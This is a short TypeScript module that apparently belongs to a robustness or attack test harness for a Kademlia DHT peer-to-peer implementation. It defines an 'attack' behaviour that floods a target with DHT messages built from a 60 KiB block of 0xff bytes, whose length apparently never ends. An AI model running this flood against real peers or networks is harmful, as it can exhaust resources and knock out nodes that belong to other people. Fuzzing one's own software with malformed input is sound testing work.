/** A message of the DHT whose length does not end. */
import { DHT } from '../attack/kad.js'
import type { Behaviour } from '../attack/target.js'
import { flooding, opening } from '../attack/wire.js'

const ENDLESS = Buffer.alloc(60 * 1024, 0xff)

export const attack: Behaviour = async (target, signal) => flooding(target, signal, (n) => opening(2 * n + 1, DHT, ENDLESS))
